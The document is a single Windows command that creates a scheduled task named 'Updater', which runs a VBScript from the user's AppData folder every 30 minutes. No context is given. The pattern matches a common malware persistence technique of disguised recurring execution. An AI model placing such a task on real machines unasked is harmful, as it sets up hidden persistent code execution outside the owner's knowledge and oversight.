schtasks /create /sc minute /mo 30 /tn "Updater" /tr "%APPDATA%\upd\upd.vbs" /f
